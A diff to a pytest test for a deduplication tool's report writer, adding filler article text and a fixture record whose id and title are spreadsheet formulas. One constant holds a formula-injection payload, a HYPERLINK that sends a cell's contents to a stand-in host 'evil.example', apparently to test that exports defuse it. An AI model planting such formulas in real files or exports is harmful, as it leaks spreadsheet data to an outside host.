@@ -18,13 +18,17 @@ from dedup.model import DocumentSummary
 from dedup.model.members import COLUMNS, member_rows
 from dedup.report.members import write_members
 
+ALONE = (
+    "Violin lessons begin again at the conservatory of Mirrow next term. Pupils from the age of six may apply at the"
+    " porter's desk, and instruments are lent for a small deposit. Teachers hope for a string orchestra by Christmas.\n"
+)
 HOSTILE = '=HYPERLINK("http://evil.example?"&A1;"click")'
 
 
 @pytest.fixture
 def corpus(tmp_path: Path) -> Path:
     """Two reports of one event, a text in two copies, and one alone whose id and title are formulas."""
-    alone = record("cheese", id="+1+2", title=HOSTILE, text="The lift bridge at Arrol stays shut until spring.")
+    alone = record("cheese", id="+1+2", title=HOSTILE, text=ALONE, published="2019-09-12")
     texts = "".join(record(name) for name in ARTICLES) + record("cheese", id="reprint", source="Écho") + alone
     (tmp_path / "news.jsonl").write_text(texts, encoding="utf-8")
     return tmp_path
